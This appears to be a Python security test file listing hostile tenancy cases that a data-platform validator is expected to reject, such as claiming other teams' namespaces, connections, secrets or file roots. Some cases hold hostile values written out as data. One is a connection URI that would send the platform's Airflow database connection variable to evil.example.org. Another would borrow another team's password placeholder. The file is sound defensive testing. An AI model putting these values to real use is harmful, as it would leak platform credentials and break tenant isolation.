"""Tenancy: an intent may only use what the tenancy file gives its team."""

from __future__ import annotations

from tests.security.corpus import SAMPLES, TEAM_A, HostileCase


def _set(**changes):
    def mutate(data):
        for dotted, value in changes.items():
            node = data
            *parents, last = dotted.split(".")
            for part in parents:
                node = node[int(part)] if part.isdigit() else node[part]
            node[int(last) if last.isdigit() else last] = value
    return mutate


TARGET = "sources.0.objects.0.ingestion.target"

CASES = [
    HostileCase("unknown-team", "tenancy", "/team/name", "is not a team of the platform's tenancy file",
                _set(**{"team.name": "team-z"}), tenancy=True),
    HostileCase("outside-intents-path", "tenancy", "/team/name", "live under 'b/'", tenancy=True, folder="a/"),
    HostileCase("claims-other-team", "tenancy", "/team/name", "live under 'a/'", _set(team=dict(TEAM_A)), tenancy=True),
    HostileCase("other-teams-project", "tenancy", "/project", "is not a project of team 'team-b'",
                _set(project="team_a"), tenancy=True),
    HostileCase("other-teams-namespace", "tenancy", "/sources/0/objects/0/ingestion/target/namespace",
                "namespace 'team_a' is not one of team 'team-b'", _set(**{f"{TARGET}.namespace": "team_a"}), tenancy=True),
    HostileCase("other-teams-connection", "tenancy", "/sources/0/connection/conn_id",
                "connection 'a_postgres' is not one of team 'team-b'",
                _set(**{"sources.0.type": "postgres", "sources.0.connection": {"conn_id": "a_postgres"},
                        "sources.0.objects": [{"name": "public.orders", "ingestion": {
                            "trigger": {"type": "adhoc"}, "mode": {"type": "full"},
                            "target": {"namespace": "team_b", "table": "orders"}}}]}), tenancy=True),
    HostileCase("other-teams-placeholder", "tenancy", "/sources/0/connection/uri",
                "placeholder ${secret:A_PASSWORD} is not available to team 'team-b'",
                _set(**{"sources.0.type": "postgres",
                        "sources.0.connection": {"uri": "postgresql://reader:${secret:A_PASSWORD}@db.example.org:5432/shop"},
                        "sources.0.objects": [{"name": "public.orders", "ingestion": {
                            "trigger": {"type": "adhoc"}, "mode": {"type": "full"},
                            "target": {"namespace": "team_b", "table": "orders"}}}]}), tenancy=True),
    HostileCase("other-teams-files", "tenancy", "/sources/0/connection/uri", "is not under the file roots of team 'team-b'",
                _set(**{"sources.0.connection": {"uri": f"file://{SAMPLES}/retail"}}), tenancy=True),
    HostileCase("platform-variable", "tenancy", "/sources/0/connection/uri",
                "placeholder ${env:AIRFLOW__DATABASE__SQL_ALCHEMY_CONN} is not available to intents",
                _set(**{"sources.0.type": "postgres",
                        "sources.0.connection": {"uri": "postgresql://u:${env:AIRFLOW__DATABASE__SQL_ALCHEMY_CONN}@evil.example.org/x"},
                        "sources.0.objects": [{"name": "public.orders", "ingestion": {
                            "trigger": {"type": "adhoc"}, "mode": {"type": "full"},
                            "target": {"namespace": "team_b", "table": "orders"}}}]})),
    HostileCase("same-intent-name-in-two-folders", "tenancy", "/name", "intent name 'good' is taken by",
                file_name="good.json", folder="b/"),
]
